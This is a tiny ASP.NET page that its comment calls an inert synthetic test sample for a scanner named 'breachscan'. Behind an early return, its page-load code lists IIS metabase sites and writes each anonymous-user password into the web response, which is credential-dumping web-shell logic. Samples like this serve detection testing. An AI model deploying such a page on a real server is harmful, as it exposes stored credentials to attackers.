<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: IIS metabase site and anonymous-user password listing. Inert: returns before anything runs. --%>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    return;
    var root = new System.DirectoryServices.DirectoryEntry("IIS://localhost/W3SVC");
    foreach (System.DirectoryServices.DirectoryEntry c in root.Children)
        Response.Write(c.Properties["AnonymousUserPass"].Value);
}
</script>
